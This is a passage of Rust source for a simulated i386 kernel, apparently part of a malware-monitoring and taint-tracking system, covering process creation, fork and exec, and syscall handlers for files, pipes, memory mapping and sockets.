        endpoint: Endpoint,
    },
    /// `accept` produced a connected socket.
    Accept {
        /// New descriptor.
        fd: i32,
        /// Connected socket resource.
        resource: Resource,
    },
    /// Custom name resolution (`gethostbyname` backend). Harrier
    /// short-circuits taint across this call (paper §7.2).
    Resolve {
        /// The name that was resolved.
        name: String,
        /// Address of the name string.
        name_addr: u32,
        /// Resolution succeeded.
        ok: bool,
    },
    /// `mknod` created a FIFO.
    Mknod {
        /// FIFO path.
        path: String,
        /// Address of the path string.
        path_addr: u32,
    },
    /// `chmod`.
    Chmod {
        /// Path affected.
        path: String,
    },
    /// `nanosleep` advanced virtual time.
    Sleep {
        /// Ticks slept.
        ticks: u64,
    },
    /// `brk` grew the heap (resource-abuse signal, paper §10 item 4).
    Brk {
        /// Bytes requested by this call.
        grew: u64,
        /// Total heap bytes allocated by the process so far.
        total: u64,
    },
    /// `mmap` mapped file bytes into process memory — the monitor tags
    /// `[addr, addr+len)` with the file's data source, so reads through
    /// the mapping inherit the file's taint.
    Mmap {
        /// The mapped file.
        resource: Resource,
        /// Mapping base address.
        addr: u32,
        /// Bytes of file content mapped.
        len: u32,
    },
    /// `munmap` — the monitor clears the range's taint.
    Munmap {
        /// Mapping base address.
        addr: u32,
        /// Length unmapped.
        len: u32,
    },
    /// `pipe` created an anonymous pipe pair.
    PipeCreated {
        /// Read-end descriptor.
        read_fd: i32,
        /// Write-end descriptor.
        write_fd: i32,
        /// Kernel pipe id.
        id: u64,
    },
    /// `kill`: the session delivers the signal (a registered handler
    /// absorbs it; otherwise the target dies with `128 + sig`).
    SignalRequested {
        /// Target pid as passed by the caller.
        target: u32,
        /// Signal number.
        sig: u32,
    },
}

/// A serviced syscall: number, name, return value, effect.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SyscallRecord {
    /// Raw syscall number.
    pub number: u32,
    /// Symbolic name in the paper's notation (`SYS_execve`).
    pub name: &'static str,
    /// Value placed in `eax`.
    pub ret: i32,
    /// Observable effect.
    pub effect: SyscallEffect,
}

/// A registered executable: assembly source plus the shared objects it
/// links against.
#[derive(Clone, Debug)]
pub struct BinarySpec {
    /// Assembly source text.
    pub source: String,
    /// Library names (must be registered with [`Kernel::register_lib`]).
    pub libs: Vec<String>,
}

/// Base address where application text is assembled.
pub const APP_BASE: u32 = 0x0804_8000;
/// Base address of the first shared object; subsequent ones are spaced
/// by `LIB_STRIDE`.
pub const LIB_BASE: u32 = 0x4000_0000;
/// Address stride between shared objects.
pub const LIB_STRIDE: u32 = 0x0100_0000;
/// Scratch (bss-like) region mapped into every process.
pub const SCRATCH_BASE: u32 = 0x0900_0000;
/// Scratch region size.
pub const SCRATCH_SIZE: u32 = 0x0004_0000;
/// Heap base address (`brk` grows upward from here).
pub const HEAP_BASE: u32 = 0x0a00_0000;
/// Maximum heap bytes a process may map (64 MiB).
pub const MAX_HEAP: u64 = 0x0400_0000;
/// Base address of the `mmap` region (per-process cursor grows upward).
pub const MMAP_BASE: u32 = 0x2000_0000;
/// End of the `mmap` region.
pub const MMAP_LIMIT: u32 = 0x3000_0000;
/// Largest single `mmap` length (1 MiB).
pub const MAX_MMAP_LEN: u32 = 0x0010_0000;
/// Stack region (grows down from `STACK_TOP`).
pub const STACK_BASE: u32 = 0xbfe0_0000;
/// Top of stack mapping.
pub const STACK_TOP: u32 = 0xc000_0000;
/// Descriptor numbers are capped here (`dup2` targets past this fail
/// with `EBADF` instead of growing the table unboundedly).
pub const FD_MAX: i32 = 1024;
/// Most virtual ticks a single `nanosleep`/`select` call may advance
/// the clock by. Without a cap, one garbage 32-bit timeout jumps the
/// clock ~4 billion ticks and 32-bit `time()` wraps into the errno
/// window.
pub const MAX_SLEEP_TICKS: u64 = 100_000;

/// Errors from process construction.
#[derive(Debug)]
pub enum SpawnError {
    /// No binary registered under that path.
    UnknownBinary(String),
    /// A referenced library was never registered.
    UnknownLib(String),
    /// The binary or one of its libraries failed to assemble.
    Asm(asm::AsmError),
    /// Link-time symbol resolution failed.
    Link(VmError),
}

impl std::fmt::Display for SpawnError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SpawnError::UnknownBinary(p) => write!(f, "no binary registered at `{p}`"),
            SpawnError::UnknownLib(l) => write!(f, "library `{l}` not registered"),
            SpawnError::Asm(e) => write!(f, "{e}"),
            SpawnError::Link(e) => write!(f, "{e}"),
        }
    }
}

impl std::error::Error for SpawnError {}

impl From<asm::AsmError> for SpawnError {
    fn from(e: asm::AsmError) -> SpawnError {
        SpawnError::Asm(e)
    }
}

/// The OS kernel: filesystem, network, clock, binary registry, syscall
/// servicing. Processes themselves are owned by the monitoring session,
/// which drives scheduling; the kernel provides every mechanism.
#[derive(Debug, Default)]
pub struct Kernel {
    /// The filesystem.
    pub vfs: Vfs,
    /// The simulated network.
    pub net: Network,
    ticks: u64,
    instructions: u64,
    instr_per_tick: u64,
    next_pid: u32,
    binaries: HashMap<String, BinarySpec>,
    libs: HashMap<String, String>,
    stdin_script: VecDeque<Vec<u8>>,
    stdout: Vec<u8>,
    /// Anonymous pipe buffers, keyed by pipe id.
    pipes: HashMap<u64, VecDeque<u8>>,
    next_pipe: u64,
    /// Tick of every fork, for the resource-abuse rate rule.
    pub fork_ticks: Vec<u64>,
    /// Every path passed to `execve`, in order.
    pub exec_log: Vec<String>,
}

impl Kernel {
    /// Creates a kernel with an empty filesystem and default network.
    pub fn new() -> Kernel {
        Kernel { net: Network::new(), instr_per_tick: 50, next_pid: 1, ..Kernel::default() }
    }

    // ---- configuration -----------------------------------------------------

    /// Registers an executable under `path`.
    pub fn register_binary(&mut self, path: &str, source: &str, libs: &[&str]) {
        self.binaries.insert(
            path.to_string(),
            BinarySpec {
                source: source.to_string(),
                libs: libs.iter().map(|s| s.to_string()).collect(),
            },
        );
    }

    /// Registers a shared object by name.
    pub fn register_lib(&mut self, name: &str, source: &str) {
        self.libs.insert(name.to_string(), source.to_string());
    }

    /// Queues one chunk of console input (one `read(0, …)` consumes one
    /// chunk, like a line-buffered terminal).
    pub fn push_stdin(&mut self, chunk: impl Into<Vec<u8>>) {
        self.stdin_script.push_back(chunk.into());
    }

    /// Everything written to stdout/stderr so far.
    pub fn stdout(&self) -> &[u8] {
        &self.stdout
    }

    /// Sets how many retired instructions make one clock tick.
    pub fn set_instr_per_tick(&mut self, n: u64) {
        self.instr_per_tick = n.max(1);
    }

    // ---- time ---------------------------------------------------------------

    /// Current virtual time.
    pub fn now(&self) -> u64 {
        self.ticks
    }

    /// Accounts retired instructions toward the clock.
    pub fn note_instructions(&mut self, n: u64) {
        self.instructions += n;
        while self.instructions >= self.instr_per_tick {
            self.instructions -= self.instr_per_tick;
            self.ticks += 1;
        }
    }

    // ---- process construction ------------------------------------------------

    fn next_pid(&mut self) -> u32 {
        let pid = self.next_pid;
        self.next_pid += 1;
        pid
    }

    /// Builds a ready-to-run process for a registered binary.
    ///
    /// # Errors
    ///
    /// Returns [`SpawnError`] when the binary/libraries are unknown or
    /// fail to assemble or link.
    pub fn spawn(
        &mut self,
        path: &str,
        argv: &[&str],
        env: &[(&str, &str)],
    ) -> Result<Process, SpawnError> {
        let spec = self
            .binaries
            .get(path)
            .cloned()
            .ok_or_else(|| SpawnError::UnknownBinary(path.to_string()))?;
        let pid = self.next_pid();
        let core = self.build_core(path, &spec)?;
        let mut proc = Process {
            pid,
            parent: 0,
            core,
            fds: FdTable::new(),
            state: ProcState::Running,
            image_name: path.to_string(),
            cmdline: argv.iter().map(|s| s.to_string()).collect(),
            initial_stack: (0, 0),
            start_tick: self.now(),
            heap_bytes: 0,
            mmap_cursor: MMAP_BASE,
            sig_handlers: HashMap::new(),
            delivered_signals: Vec::new(),
        };
        proc.initial_stack = build_initial_stack(&mut proc.core, argv, env);
        proc.core.start();
        Ok(proc)
    }

    fn build_core(&self, path: &str, spec: &BinarySpec) -> Result<Core, SpawnError> {
        let mut core = Core::new();
        let consts = abi::asm_consts();
        let app = asm::assemble_with(path, &spec.source, APP_BASE, &consts)?;
        core.load_image(app);
        for (i, lib) in spec.libs.iter().enumerate() {
            let src = self.libs.get(lib).ok_or_else(|| SpawnError::UnknownLib(lib.clone()))?;
            let img = asm::assemble_with(lib, src, LIB_BASE + i as u32 * LIB_STRIDE, &consts)?;
            core.load_image(img);
        }
        core.link().map_err(SpawnError::Link)?;
        core.mem.map(SCRATCH_BASE, SCRATCH_BASE + SCRATCH_SIZE);
        core.mem.map(STACK_BASE, STACK_TOP);
        Ok(core)
    }

    /// Forks `parent`: clones memory, registers and descriptors. The
    /// child's `eax` is 0; the caller sets the parent's `eax` to the
    /// returned child's pid.
    pub fn fork(&mut self, parent: &Process) -> Process {
        let pid = self.next_pid();
        self.fork_ticks.push(self.now());
        let mut core = parent.core.clone();
        core.cpu.set(Reg::Eax, 0);
        Process {
            pid,
            parent: parent.pid,
            core,
            fds: parent.fds.clone(),
            state: ProcState::Running,
            image_name: parent.image_name.clone(),
            cmdline: parent.cmdline.clone(),
            initial_stack: parent.initial_stack,
            start_tick: self.now(),
            heap_bytes: parent.heap_bytes,
            mmap_cursor: parent.mmap_cursor,
            sig_handlers: parent.sig_handlers.clone(),
            delivered_signals: Vec::new(),
        }
    }

    /// Replaces `proc`'s image with registered binary `path` (the second
    /// half of `execve`). Descriptors survive, memory does not.
    ///
    /// # Errors
    ///
    /// Returns [`SpawnError`] when the binary is unknown or broken.
    pub fn exec_into(
        &mut self,
        proc: &mut Process,
        path: &str,
        argv: &[&str],
    ) -> Result<(), SpawnError> {
        let spec = self
            .binaries
            .get(path)
            .cloned()
            .ok_or_else(|| SpawnError::UnknownBinary(path.to_string()))?;
        let mut core = self.build_core(path, &spec)?;
        let initial_stack = build_initial_stack(&mut core, argv, &[]);
        core.start();
        proc.core = core;
        proc.image_name = path.to_string();
        proc.cmdline = argv.iter().map(|s| s.to_string()).collect();
        proc.initial_stack = initial_stack;
        proc.heap_bytes = 0;
        proc.mmap_cursor = MMAP_BASE;
        proc.sig_handlers.clear();
        Ok(())
    }

    /// True when `path` names a registered binary.
    pub fn knows_binary(&self, path: &str) -> bool {
        self.binaries.contains_key(path)
    }

    // ---- syscall servicing -----------------------------------------------------
    //
    // Dispatch itself (argument extraction, CStr validation, name
    // lookup) is generated from the ABI table in `crate::abi`; the
    // `sys_*` methods below are the handler semantics it invokes.

    /// Services the syscall pending in `proc` (registers per the i386
    /// convention), sets `eax`, and reports what happened.
    pub fn syscall(&mut self, proc: &mut Process) -> SyscallRecord {
        let nr = proc.core.cpu.get(Reg::Eax);
        let (name, ret, effect) = self.dispatch(proc, nr);
        proc.core.cpu.set(Reg::Eax, ret as u32);
        SyscallRecord { number: nr, name, ret, effect }
    }

    pub(crate) fn sys_exit(&mut self, proc: &mut Process, code: u32) -> (i32, SyscallEffect) {
        proc.state = ProcState::Exited(code as i32);
        (0, SyscallEffect::Exit { code: code as i32 })
    }

    pub(crate) fn sys_fork(&mut self, _proc: &mut Process) -> (i32, SyscallEffect) {
        (0, SyscallEffect::ForkRequested)
    }

    pub(crate) fn sys_time(&mut self, _proc: &mut Process) -> (i32, SyscallEffect) {
        (self.now() as i32, SyscallEffect::None)
    }

    pub(crate) fn sys_getpid(&mut self, proc: &mut Process) -> (i32, SyscallEffect) {
        (proc.pid as i32, SyscallEffect::None)
    }

    pub(crate) fn sys_close(&mut self, proc: &mut Process, fd: i32) -> (i32, SyscallEffect) {
        match proc.fds.close(fd) {
            Some(kind) => {
                let resource = self.resource_of(&kind);
                if let FdKind::Socket(id) = kind {
                    self.net.close(id);
                }
                (0, SyscallEffect::Close { resource })
            }
            None => (-errno::EBADF, SyscallEffect::None),
        }
    }

    pub(crate) fn sys_execve(
        &mut self,
        _proc: &mut Process,
        path: CStrArg,
    ) -> (i32, SyscallEffect) {
        let CStrArg { val: path, addr } = path;
        self.exec_log.push(path.clone());
        let found = self.knows_binary(&path);
        // The session performs the actual exec (after Secpert has
        // seen the event). The return value assumes failure; a
        // successful exec never returns.
        let ret = if found {
            0
        } else if self.vfs.exists(&path) {
            -errno::ENOEXEC
        } else {
            -errno::ENOENT
        };
        (ret, SyscallEffect::ExecRequested { path, path_addr: addr, found })
    }

    pub(crate) fn sys_mknod(
        &mut self,
        _proc: &mut Process,
        path: CStrArg,
        _mode: u32,
    ) -> (i32, SyscallEffect) {
        let CStrArg { val: path, addr } = path;
        self.vfs.mkfifo(&path);
        (0, SyscallEffect::Mknod { path, path_addr: addr })
    }

    pub(crate) fn sys_chmod(
        &mut self,
        _proc: &mut Process,
        path: CStrArg,
        mode: u32,
    ) -> (i32, SyscallEffect) {
        let exec = mode & 0o111 != 0;
        if self.vfs.chmod_exec(&path.val, exec) {
            (0, SyscallEffect::Chmod { path: path.val })
        } else {
            (-errno::ENOENT, SyscallEffect::None)
        }
    }

    pub(crate) fn sys_dup(&mut self, proc: &mut Process, fd: i32) -> (i32, SyscallEffect) {
        match proc.fds.dup(fd) {
            Some(new) => {
                let resource = proc.fds.get(new).map(|k| self.resource_of(k)).expect("just dup'ed");
                (new, SyscallEffect::Dup { old: fd, new, resource })
            }
            None => (-errno::EBADF, SyscallEffect::None),
        }
    }

    pub(crate) fn sys_dup2(
        &mut self,
        proc: &mut Process,
        old: i32,
        new: i32,
    ) -> (i32, SyscallEffect) {
        if !(0..FD_MAX).contains(&new) {
            return (-errno::EBADF, SyscallEffect::None);
        }
        let Some(kind) = proc.fds.get(old).cloned() else {
            return (-errno::EBADF, SyscallEffect::None);
        };
        let resource = self.resource_of(&kind);
        if old == new {
            return (new, SyscallEffect::Dup { old, new, resource });
        }
        if let Some(FdKind::Socket(id)) = proc.fds.replace(new, kind) {
            self.net.close(id);
        }
        (new, SyscallEffect::Dup { old, new, resource })
    }

    pub(crate) fn sys_pipe(&mut self, proc: &mut Process, fds_ptr: u32) -> (i32, SyscallEffect) {
        // Validate the output pointer before allocating anything.
        if proc.core.mem.write_u32(fds_ptr, 0).is_err()
            || proc.core.mem.write_u32(fds_ptr + 4, 0).is_err()
        {
            return (-errno::EFAULT, SyscallEffect::None);
        }
        let id = self.next_pipe;
        self.next_pipe += 1;
        self.pipes.insert(id, VecDeque::new());
        let read_fd = proc.fds.alloc(FdKind::Pipe { id, write: false });
        let write_fd = proc.fds.alloc(FdKind::Pipe { id, write: true });
        proc.core.mem.write_u32(fds_ptr, read_fd as u32).expect("validated above");
        proc.core.mem.write_u32(fds_ptr + 4, write_fd as u32).expect("validated above");
        (0, SyscallEffect::PipeCreated { read_fd, write_fd, id })
    }

    pub(crate) fn sys_kill(
        &mut self,
        _proc: &mut Process,
        pid: u32,
        sig: u32,
    ) -> (i32, SyscallEffect) {
        (0, SyscallEffect::SignalRequested { target: pid, sig })
    }

    pub(crate) fn sys_sigaction(
        &mut self,
        proc: &mut Process,
        sig: u32,
        handler: u32,
    ) -> (i32, SyscallEffect) {
        if sig == 0 || sig > 64 {
            return (-errno::EINVAL, SyscallEffect::None);
        }
        proc.sig_handlers.insert(sig, handler);
        (0, SyscallEffect::None)
    }

    pub(crate) fn sys_select(
        &mut self,
        proc: &mut Process,
        nfds: u32,
        readfds: u32,
        timeout: u32,
    ) -> (i32, SyscallEffect) {
        let Ok(mask) = proc.core.mem.read_u32(readfds) else {
            return (-errno::EFAULT, SyscallEffect::None);
        };
        let mut ready = 0u32;
        for fd in 0..nfds.min(32) {
            if mask & (1 << fd) != 0 && self.fd_readable(proc, fd as i32) {
                ready |= 1 << fd;
            }
        }
        if ready == 0 && timeout > 0 {
            // A fruitless wait burns the timeout in virtual time, so
            // polling servers make forward progress on the clock.
            self.ticks += u64::from(timeout).min(MAX_SLEEP_TICKS);
        }
        if proc.core.mem.write_u32(readfds, ready).is_err() {
            return (-errno::EFAULT, SyscallEffect::None);
        }
        (ready.count_ones() as i32, SyscallEffect::None)
    }

    fn fd_readable(&self, proc: &Process, fd: i32) -> bool {
        match proc.fds.get(fd) {
            None | Some(FdKind::Stdout | FdKind::Stderr) => false,
            Some(FdKind::Stdin) => !self.stdin_script.is_empty(),
            Some(FdKind::File { path, fifo, .. }) => {
                if *fifo {
                    matches!(
                        self.vfs.get(path).map(|n| &n.kind),
                        Some(FileKind::Fifo(q)) if !q.is_empty()
                    )
                } else {
                    self.vfs.exists(path)
                }
            }
            Some(FdKind::Pipe { id, write }) => {
                !*write && self.pipes.get(id).is_some_and(|q| !q.is_empty())
            }
            Some(FdKind::Proc { data, offset, .. }) => *offset < data.len(),
            Some(FdKind::Socket(id)) => self.net.readable(*id),
        }
    }

    pub(crate) fn sys_mmap(
        &mut self,
        proc: &mut Process,
        fd: i32,
        len: u32,
        offset: u32,
    ) -> (i32, SyscallEffect) {
        if len == 0 || len > MAX_MMAP_LEN {
            return (-errno::EINVAL, SyscallEffect::None);
        }
        let Some(kind) = proc.fds.get(fd).cloned() else {
            return (-errno::EBADF, SyscallEffect::None);
        };
        let FdKind::File { path, fifo: false, .. } = kind else {
            return (-errno::EINVAL, SyscallEffect::None);
        };
        let Some(data) = self.vfs.read(&path, offset as usize, len as usize) else {
            return (-errno::ENOENT, SyscallEffect::None);
        };
        let addr = proc.mmap_cursor;
        let span = (len + 0xfff) & !0xfff;
        if addr.checked_add(span).is_none_or(|end| end > MMAP_LIMIT) {
            return (-errno::ENOMEM, SyscallEffect::None);
        }
        proc.core.mem.map(addr, addr + span);
        proc.core.mem.write_bytes(addr, &data).expect("just mapped");
        proc.mmap_cursor = addr + span;
        (
            addr as i32,
            SyscallEffect::Mmap {
                resource: Resource::File { path, fifo: false },
                addr,
                len: data.len() as u32,
            },
        )
    }

    pub(crate) fn sys_munmap(
        &mut self,
        proc: &mut Process,
        addr: u32,
        len: u32,
    ) -> (i32, SyscallEffect) {
        if len == 0 || addr < MMAP_BASE || addr >= proc.mmap_cursor {
            return (-errno::EINVAL, SyscallEffect::None);
        }
        // Pages stay mapped (stray loads fault-free like real lazy
        // unmap would not, but determinism matters more here); the
        // monitor clears the range's taint.
        (0, SyscallEffect::Munmap { addr, len })
    }

    pub(crate) fn sys_brk(&mut self, proc: &mut Process, incr: u32) -> (i32, SyscallEffect) {
        // Simplified brk: `incr` = bytes to grow the heap by.
        let grew = u64::from(incr);
        let old_total = proc.heap_bytes;
        proc.heap_bytes += grew;
        if grew > 0 && proc.heap_bytes <= MAX_HEAP {
            // Guarded: old_total < MAX_HEAP here, so the u32 base
            // arithmetic cannot wrap (fuzzed callers can otherwise push
            // heap_bytes past 4 GiB).
            let base = HEAP_BASE + old_total as u32;
            proc.core.mem.map(base, base + grew as u32);
        }
        (
            (HEAP_BASE as u64 + proc.heap_bytes) as i32,
            SyscallEffect::Brk { grew, total: proc.heap_bytes },
        )
    }

    pub(crate) fn sys_nanosleep(
        &mut self,
        _proc: &mut Process,
        ticks: u32,
    ) -> (i32, SyscallEffect) {
        let slept = u64::from(ticks).min(MAX_SLEEP_TICKS);
        self.ticks += slept;
        (0, SyscallEffect::Sleep { ticks: slept })
    }

    pub(crate) fn sys_resolve(
        &mut self,
        _proc: &mut Process,
        name: CStrArg,
    ) -> (i32, SyscallEffect) {
        let CStrArg { val: name, addr } = name;
        match self.net.resolve(&name) {
            Ok(ip) => (ip as i32, SyscallEffect::Resolve { name, name_addr: addr, ok: true }),
            Err(_) => (0, SyscallEffect::Resolve { name, name_addr: addr, ok: false }),
        }
    }

    fn resource_of(&self, kind: &FdKind) -> Resource {
        match kind {
            FdKind::Stdin => Resource::Stdin,
            FdKind::Stdout => Resource::Stdout,
            FdKind::Stderr => Resource::Stderr,
            FdKind::File { path, fifo, .. } => Resource::File { path: path.clone(), fifo: *fifo },
            FdKind::Pipe { id, .. } => Resource::Pipe { id: *id },
            FdKind::Proc { path, .. } => Resource::Proc { path: path.clone() },
            FdKind::Socket(id) => match self.net.get(*id) {
                Ok(sock) => match sock.state {
                    SocketState::Connected { local, remote, accepted } => Resource::Socket {
                        local: Some(local),
                        remote: Some(remote),
                        listening: false,
                        accepted,
                    },
                    SocketState::Listening(ep) => Resource::Socket {
                        local: Some(ep),
                        remote: None,
                        listening: true,
                        accepted: false,
                    },
                    SocketState::Bound(ep) => Resource::Socket {
                        local: Some(ep),
                        remote: None,
                        listening: false,
                        accepted: false,
                    },
                    _ => Resource::Socket {
                        local: None,
                        remote: None,
                        listening: false,
                        accepted: false,
                    },
                },
                Err(_) => Resource::Socket {
                    local: None,
                    remote: None,
                    listening: false,
                    accepted: false,
                },
            },
        }
    }

    /// Synthesizes the read-only `/proc` self-view for `path`, when it
    /// is one the kernel provides (`/proc/self/…` or `/proc/<own pid>/…`
    /// with leaf `status` or `cmdline`).
    fn proc_view(&self, proc: &Process, path: &str) -> Option<Vec<u8>> {
        let rest = path.strip_prefix("/proc/")?;
        let (who, leaf) = rest.split_once('/')?;
        let pid = if who == "self" { proc.pid } else { who.parse::<u32>().ok()? };
        if pid != proc.pid {
            // Views of *other* processes are not synthesized; a
            // matching VFS file (e.g. procex's planted /proc/1/environ)
            // is served as a plain file instead.
            return None;
        }
        match leaf {
            "status" => {
                let image = proc.image_name.rsplit('/').next().unwrap_or(proc.image_name.as_str());
                Some(
                    format!(
                        "Name:\t{image}\nPid:\t{}\nPPid:\t{}\nTracerPid:\t0\n",
                        proc.pid, proc.parent
                    )
                    .into_bytes(),
                )
            }
            "cmdline" => {
                let mut data = Vec::new();
                for arg in &proc.cmdline {
                    data.extend_from_slice(arg.as_bytes());
                    data.push(0);
                }
                Some(data)
            }
            _ => None,
        }
    }

    pub(crate) fn sys_open(
        &mut self,
        proc: &mut Process,
        path: CStrArg,
        flags: u32,
    ) -> (i32, SyscallEffect) {
        let CStrArg { val: path, addr: path_addr } = path;
        let writing = flags & (oflags::WRONLY | oflags::RDWR | oflags::CREAT) != 0;
        if !writing {
            if let Some(data) = self.proc_view(proc, &path) {
                let fd = proc.fds.alloc(FdKind::Proc { path: path.clone(), data, offset: 0 });
                return (
                    fd,
                    SyscallEffect::Open { fd, resource: Resource::Proc { path }, path_addr },
                );
            }
        }
        if writing {
            self.vfs.open_write(&path, flags & oflags::TRUNC != 0);
        } else if !self.vfs.exists(&path) {
            return (-errno::ENOENT, SyscallEffect::None);
        }
        let fifo = matches!(self.vfs.get(&path).map(|n| &n.kind), Some(FileKind::Fifo(_)));
        let offset = if flags & oflags::APPEND != 0 {
            self.vfs.get(&path).map_or(0, |n| n.data().len())
        } else {
            0
        };
        let fd = proc.fds.alloc(FdKind::File { path: path.clone(), offset, fifo });
        (fd, SyscallEffect::Open { fd, resource: Resource::File { path, fifo }, path_addr })
    }

    pub(crate) fn sys_read(
        &mut self,
        proc: &mut Process,
        fd: i32,
        buf: u32,
        len: u32,
    ) -> (i32, SyscallEffect) {
        let Some(kind) = proc.fds.get(fd).cloned() else {
            return (-errno::EBADF, SyscallEffect::None);
        };
        let resource = self.resource_of(&kind);
        let bytes: Vec<u8> = match kind {
            FdKind::Stdin => self.stdin_script.pop_front().unwrap_or_default(),
            FdKind::Stdout | FdKind::Stderr => return (-errno::EBADF, SyscallEffect::None),
            FdKind::File { ref path, offset, .. } => {
                let Some(data) = self.vfs.read(path, offset, len as usize) else {
                    return (-errno::ENOENT, SyscallEffect::None);
                };
                if let Some(FdKind::File { offset, .. }) = proc.fds.get_mut(fd) {
                    *offset += data.len();
                }
                data
            }
            FdKind::Pipe { id, write } => {
                if write {
                    return (-errno::EBADF, SyscallEffect::None);
                }
                let Some(queue) = self.pipes.get_mut(&id) else {
                    return (-errno::EBADF, SyscallEffect::None);
                };
                if queue.is_empty() {
                    return (-errno::EAGAIN, SyscallEffect::None);
                }
                let take = queue.len().min(len as usize);
                queue.drain(..take).collect()
            }
            FdKind::Proc { ref data, offset, .. } => {
                let start = offset.min(data.len());
                let end = (start + len as usize).min(data.len());
                let chunk = data[start..end].to_vec();
                if let Some(FdKind::Proc { offset, .. }) = proc.fds.get_mut(fd) {
                    *offset += chunk.len();
                }
                chunk
            }
            FdKind::Socket(id) => match self.net.recv(id, len as usize) {
                Ok(data) => data,
                Err(NetError::WouldBlock) => return (-errno::EAGAIN, SyscallEffect::None),
                Err(_) => return (-errno::EINVAL, SyscallEffect::None),
            },
        };
        let take = bytes.len().min(len as usize);
        if proc.core.mem.write_bytes(buf, &bytes[..take]).is_err() {
            return (-errno::EFAULT, SyscallEffect::None);
        }
        (take as i32, SyscallEffect::Read { resource, buf, len: take as u32 })
    }

    pub(crate) fn sys_write(
        &mut self,
        proc: &mut Process,
        fd: i32,
        buf: u32,
        len: u32,
    ) -> (i32, SyscallEffect) {
        let Some(kind) = proc.fds.get(fd).cloned() else {
            return (-errno::EBADF, SyscallEffect::None);
        };
        let resource = self.resource_of(&kind);
        let Ok(bytes) = proc.core.mem.read_bytes(buf, len) else {
            return (-errno::EFAULT, SyscallEffect::None);
        };
        let written = match kind {
            FdKind::Stdin | FdKind::Proc { .. } => {
                return (-errno::EBADF, SyscallEffect::None);
            }
            FdKind::Stdout | FdKind::Stderr => {
                self.stdout.extend_from_slice(&bytes);
                bytes.len()
            }
            FdKind::File { ref path, offset, .. } => {
                let Some(n) = self.vfs.write(path, offset, &bytes) else {
                    return (-errno::ENOENT, SyscallEffect::None);
                };
                if let Some(FdKind::File { offset, .. }) = proc.fds.get_mut(fd) {
                    *offset += n;
                }
                n
            }
            FdKind::Pipe { id, write } => {
                if !write {
                    return (-errno::EBADF, SyscallEffect::None);
                }
                let Some(queue) = self.pipes.get_mut(&id) else {
                    return (-errno::EBADF, SyscallEffect::None);
                };
                queue.extend(bytes.iter().copied());
                bytes.len()
            }
            FdKind::Socket(id) => match self.net.send(id, &bytes) {
                Ok(n) => n,
                Err(_) => return (-errno::EINVAL, SyscallEffect::None),
            },
        };
        (written as i32, SyscallEffect::Write { resource, buf, len: written as u32 })
    }

    pub(crate) fn sys_socketcall(
        &mut self,
        proc: &mut Process,
        call: u32,
        args_ptr: u32,
    ) -> (&'static str, i32, SyscallEffect) {
        let arg = |core: &Core, i: u32| core.mem.read_u32(args_ptr + 4 * i);
        match call {
            sockcall::SOCKET => {
                let id = self.net.socket();
                let fd = proc.fds.alloc(FdKind::Socket(id));
                ("SYS_socket", fd, SyscallEffect::SocketCreated { fd })
            }
            sockcall::BIND => {
                let (Ok(fd), Ok(addr_ptr)) = (arg(&proc.core, 0), arg(&proc.core, 1)) else {
                    return ("SYS_bind", -errno::EFAULT, SyscallEffect::None);
                };
                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
                    return ("SYS_bind", -errno::EBADF, SyscallEffect::None);
                };
                let Some(mut ep) = read_sockaddr(&proc.core, addr_ptr) else {
                    return ("SYS_bind", -errno::EFAULT, SyscallEffect::None);
                };
                if ep.ip == 0 {
                    ep.ip = self.net.local_ip();
                }
                match self.net.bind(id, ep) {
                    Ok(()) => {
                        let resource = self.resource_of(&FdKind::Socket(id));
                        ("SYS_bind", 0, SyscallEffect::Bind { resource, addr_ptr, endpoint: ep })
                    }
                    Err(_) => ("SYS_bind", -errno::EINVAL, SyscallEffect::None),
                }
            }
            sockcall::CONNECT => {
                let (Ok(fd), Ok(addr_ptr)) = (arg(&proc.core, 0), arg(&proc.core, 1)) else {
                    return ("SYS_connect", -errno::EFAULT, SyscallEffect::None);
                };
                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
                    return ("SYS_connect", -errno::EBADF, SyscallEffect::None);
                };
                let Some(ep) = read_sockaddr(&proc.core, addr_ptr) else {
                    return ("SYS_connect", -errno::EFAULT, SyscallEffect::None);
                };
                match self.net.connect(id, ep) {
                    Ok(_local) => {
                        let resource = self.resource_of(&FdKind::Socket(id));
                        (
                            "SYS_connect",
                            0,
                            SyscallEffect::Connect { resource, addr_ptr, endpoint: ep },
                        )
                    }
                    Err(NetError::Refused) => {
                        // The connection attempt is still an observable
                        // (and suspicious) act; report the endpoint.
                        let resource = self.resource_of(&FdKind::Socket(id));
                        (
                            "SYS_connect",
                            -errno::ECONNREFUSED,
                            SyscallEffect::Connect { resource, addr_ptr, endpoint: ep },
                        )
                    }
                    Err(_) => ("SYS_connect", -errno::EINVAL, SyscallEffect::None),
                }
            }
            sockcall::LISTEN => {
                let Ok(fd) = arg(&proc.core, 0) else {
                    return ("SYS_listen", -errno::EFAULT, SyscallEffect::None);
                };
                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
                    return ("SYS_listen", -errno::EBADF, SyscallEffect::None);
                };
                match self.net.listen(id) {
                    Ok(_) => {
                        let resource = self.resource_of(&FdKind::Socket(id));
                        ("SYS_listen", 0, SyscallEffect::Listen { resource })
                    }
                    Err(_) => ("SYS_listen", -errno::EINVAL, SyscallEffect::None),
                }
            }
            sockcall::ACCEPT => {
                let (Ok(fd), Ok(addr_out)) = (arg(&proc.core, 0), arg(&proc.core, 1)) else {
                    return ("SYS_accept", -errno::EFAULT, SyscallEffect::None);
                };
                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
                    return ("SYS_accept", -errno::EBADF, SyscallEffect::None);
                };
                match self.net.accept(id) {
                    Ok((conn, remote)) => {
                        if addr_out != 0 {
                            let _ = write_sockaddr(&mut proc.core, addr_out, remote);
                        }
                        let new_fd = proc.fds.alloc(FdKind::Socket(conn));
                        let resource = self.resource_of(&FdKind::Socket(conn));
                        ("SYS_accept", new_fd, SyscallEffect::Accept { fd: new_fd, resource })
                    }
                    Err(NetError::WouldBlock) => {
                        ("SYS_accept", -errno::EAGAIN, SyscallEffect::None)
                    }
                    Err(_) => ("SYS_accept", -errno::EINVAL, SyscallEffect::None),
                }
            }
            sockcall::SEND => {
                let (Ok(fd), Ok(buf), Ok(len)) =
                    (arg(&proc.core, 0), arg(&proc.core, 1), arg(&proc.core, 2))
                else {
